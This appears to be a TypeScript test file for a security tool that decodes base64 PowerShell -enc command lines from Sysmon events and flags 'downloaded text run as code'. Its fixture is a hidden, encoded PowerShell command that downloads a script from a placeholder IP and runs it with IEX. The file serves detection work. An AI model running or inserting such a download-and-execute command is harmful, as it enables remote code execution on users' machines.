import { assert, property, string } from "fast-check";
import { expect, test } from "vitest";
import { decodedCommand } from "../../../src/digest/shape/encoded-command.ts";
import { behavioursOf, said } from "../../support/said.ts";

const SCRIPT = "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a')";
const wide = (text: string) => Buffer.from(text, "utf16le").toString("base64");

test.each([
  ["-enc", wide(SCRIPT)],
  ["-e", wide(SCRIPT)],
  ["-EncodedCommand", wide(SCRIPT)],
  ["/ec", Buffer.from(SCRIPT).toString("base64")],
])("%s is decoded", (flag, encoded) => {
  expect(decodedCommand(`powershell.exe -nop -w hidden ${flag} ${encoded}`)).toBe(SCRIPT);
});

test.each([
  "powershell.exe -ExecutionPolicy Bypass -File C:\\a.ps1",
  "powershell.exe -enc AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA",
  "tar -e 0123456789abcdef0123456789abcdef",
  "",
])("%j holds nothing to decode", (line) => {
  expect(decodedCommand(line)).toBe("");
});

test("what is decoded is bounded and in one line, whatever was encoded", () => {
  assert(
    property(string({ minLength: 20, maxLength: 3000 }), (text) => {
      const decoded = decodedCommand(`powershell -enc ${wide(text)}`);
      expect(decoded.length).toBeLessThanOrEqual(400);
      expect(decoded).not.toMatch(/[\n\r]/);
    }),
  );
});

test("an event says what was encoded, marked as decoded, and is judged by it", () => {
  const event = {
    event_type: "winsec",
    provider: "Microsoft-Windows-Sysmon",
    win_event_id: 1,
    exe: "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
    arguments: `powershell.exe -nop -enc ${wide(SCRIPT)}`,
  };
  expect(said(event)).toContain(`[decoded: ${SCRIPT}]`);
  expect(behavioursOf(event).join("\n")).toContain("downloaded text run as code");
});
